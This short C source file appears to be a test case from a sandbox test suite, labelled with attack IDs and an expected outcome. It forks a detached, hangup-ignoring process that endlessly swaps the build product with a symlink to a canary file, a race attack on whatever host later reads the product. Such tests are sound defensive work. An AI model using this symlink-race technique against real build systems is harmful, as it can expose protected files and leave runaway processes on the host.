// case: A04 A17
// attack: a process that outlives the compiler swaps the product for a link again and again
// expect: refused or taken
// outside: harmful: a host that reads while the race goes on waits for luck
// stage: product
#include "attack.h"
int main(void) {
    int file = open("plain", O_WRONLY | O_CREAT, 0644);
    if (file < 0 || write(file, "plain", 5) != 5 || symlink(given("CANARY"), "link")) return 2;
    if (link("plain", "product")) return 2;
    if (!fork()) {
        setsid();
        signal(SIGHUP, SIG_IGN);
        for (;;) {
            syscall(SYS_renameat2, AT_FDCWD, "product", AT_FDCWD, "link", 2 /* exchange */);
            unlink("plain");
        }
    }
    held("left a racer");
}
